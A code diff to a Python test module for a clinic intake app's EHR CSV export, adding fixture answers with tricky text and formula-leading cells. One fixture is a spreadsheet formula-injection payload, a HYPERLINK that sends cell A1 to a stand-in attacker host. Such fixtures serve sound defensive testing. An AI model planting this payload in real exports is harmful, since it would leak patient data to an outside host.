@@ -1,4 +1,4 @@
-"""Reading exported CSV files back the way an EHR import would: with the csv module."""
+"""Exported CSV files read back the way an EHR import would (the csv module), and test data."""
 
 import csv
 import io
@@ -8,6 +8,30 @@ from zoneinfo import ZoneInfo
 from intake import questionnaire
 from intake.ehr.columns import IDENTITY_QUESTIONS
 from intake.models import Submission
+
+HOSTILE = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
+
+# Free text a patient could type: quotes, commas, line breaks, non-Latin scripts and cells a
+# spreadsheet would run as formulas. A few (a leading tab or line break, a CR) the tablet would
+# have cleaned away, but the export must write whatever is stored.
+TRICKY_ANSWERS = {
+    "first_name": "王",
+    "last_name": "فاطمة",
+    "email": "-wang@example.org",
+    "address": 'Flat 2, "The Old Mill"\n12 River Road\r\nSpringfield, IL',
+    "emergency_contact_name": "Ольга Иванова-Núñez",
+    "physician": "\tDr. Tab",
+    "visit_reason": HOSTILE,
+    "pain_areas": ["other", "lower_back"],
+    "pain_areas_other": "+1 big toe",
+    "better_with": "@SUM(A1:A9)",
+    "worse_with": '-stairs, "quoted", and commas',
+    "medications": "'apostrophe first",
+    "diabetes": "yes",
+    "diabetes_controlled": "no",
+    "pregnant": "no",
+    "anything_else": "\nstarts with a line break 🙂",
+}
 
 BOM = b"\xef\xbb\xbf"
 CLINIC_ZONE = ZoneInfo("America/Chicago")  # INTAKE_TIMEZONE in tests/conftest.py
